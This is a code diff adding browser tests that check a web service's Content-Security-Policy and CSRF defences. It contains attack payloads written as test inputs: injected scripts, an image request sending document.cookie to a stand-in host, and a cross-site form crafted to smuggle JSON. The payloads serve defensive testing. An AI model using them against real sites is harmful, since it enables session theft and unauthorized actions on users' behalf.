@@ -1,3 +1,6 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { openBrowser } from '@resource/browser-test'
 import type { Browser, Locator, Page } from 'playwright-core'
 import { afterAll, beforeAll, expect, test } from 'vitest'
@@ -141,6 +144,27 @@ for (const path of ['/', '/docs', '/redoc']) {
     expect(headers.get('cache-control')).toBe('no-cache')
   })
 
+  browserTest(`${path} in a real browser: its policy (CSP) stops what gets into the page`, async () => {
+    await using context = await browser.newContext()
+    const page = await context.newPage()
+    await page.goto(server.url + path)
+    const stopped = await page.evaluate<string[]>(`new Promise((resolve) => {
+      const stopped = new Set()
+      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+        stopped.add(effectiveDirective)
+        if (stopped.size === 3) resolve([...stopped].sort())
+      })
+      const script = document.createElement('script')
+      script.textContent = 'window.owned = 1'
+      document.body.append(script)
+      document.body.insertAdjacentHTML('beforeend', '<b onclick="window.owned = 1">x</b>')
+      document.body.lastChild.click()
+      new Image().src = 'https://elsewhere.example/' + document.cookie
+    })`)
+    expect(stopped).toEqual(['img-src', 'script-src-attr', 'script-src-elem'])
+    expect(await page.evaluate('window.owned')).toBe(undefined)
+  })
+
   test(`${path} answers HEAD and OPTIONS and refuses what is not offered`, async () => {
     const head = await fetch(server.url + path, { method: 'HEAD' })
     expect([head.status, await head.text()]).toEqual([200, ''])
@@ -180,6 +204,34 @@ for (const [path, type] of [
     })
   })
 }
+
+browserTest('a page of another site writes nothing through a real browser, by form or by script (CSRF)', async () => {
+  const text = JSON.stringify({ name: 'Sofa', price: 1 })
+  const form = `<form method="post" enctype="text/plain" action="${server.url}/items/"><input name='${text.slice(0, -1)},"x":"' value='"}'></form>`
+  await using elsewhere = createServer((_req, res) => res.setHeader('Content-Type', 'text/html').end(form))
+  elsewhere.listen(0, '127.0.0.1')
+  await once(elsewhere, 'listening')
+  await using context = await browser.newContext()
+  const page = await context.newPage()
+  // Another site for the browser: localhost is not 127.0.0.1.
+  await page.goto(`http://localhost:${(elsewhere.address() as AddressInfo).port}/`)
+  for (const type of ['text/plain', 'application/json']) {
+    const init = JSON.stringify({
+      method: 'POST',
+      mode: 'no-cors',
+      credentials: 'include',
+      headers: { 'Content-Type': type },
+      body: text,
+    })
+    await page.evaluate(`fetch('${server.url}/items/', ${init}).catch(() => undefined)`)
+  }
+  const [answer] = await Promise.all([
+    page.waitForResponse(`${server.url}/items/`),
+    page.evaluate('document.forms[0].submit()'),
+  ])
+  expect([answer.request().method(), answer.status()]).toEqual(['POST', 403])
+  expect((await server.request('GET', '/items')).body).toEqual([])
+})
 
 test('the probes say in a word how things are, and the document is OpenAPI 3.1 of the service', async () => {
   expect((await server.request('GET', '/healthz')).body).toEqual({ status: 'ok' })
